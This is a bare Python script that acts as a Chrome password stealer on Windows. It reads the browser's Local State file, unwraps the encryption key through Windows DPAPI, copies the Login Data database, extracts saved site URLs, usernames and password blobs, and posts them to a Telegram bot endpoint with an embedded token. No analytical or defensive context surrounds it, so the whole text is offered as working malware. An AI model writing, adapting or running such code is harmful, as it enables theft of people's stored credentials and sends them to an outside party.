import os, json, base64, sqlite3, shutil
import requests
import win32crypt
local = os.getenv("LOCALAPPDATA", "")
state = os.path.join(local, "Google", "Chrome", "User Data", "Local State")
logins = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data")
key = json.load(open(state))["os_crypt"]["encrypted_key"]
key = win32crypt.CryptUnprotectData(base64.b64decode(key)[5:], None, None, None, 0)[1]
shutil.copy(logins, "ld.db")
rows = sqlite3.connect("ld.db").execute("select origin_url, username_value, password_value from logins").fetchall()
requests.post("https://api.telegram.org/bot123456789:AAHk3Jx9QwErTyUiOpAsDfGhJkLzXcVbNm0/sendDocument", data={"chat_id": "1", "text": str(rows)})
